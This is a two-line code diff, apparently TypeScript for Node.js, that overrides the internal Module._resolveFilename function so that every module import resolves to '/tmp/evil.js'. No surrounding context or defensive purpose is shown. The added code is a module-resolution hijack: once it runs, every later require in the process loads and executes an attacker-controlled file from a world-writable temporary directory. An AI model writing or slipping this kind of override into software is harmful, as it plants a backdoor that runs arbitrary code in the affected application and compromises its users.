@@ -1,0 +1,2 @@
+import Module from 'module';
+(Module as any)._resolveFilename = () => '/tmp/evil.js';
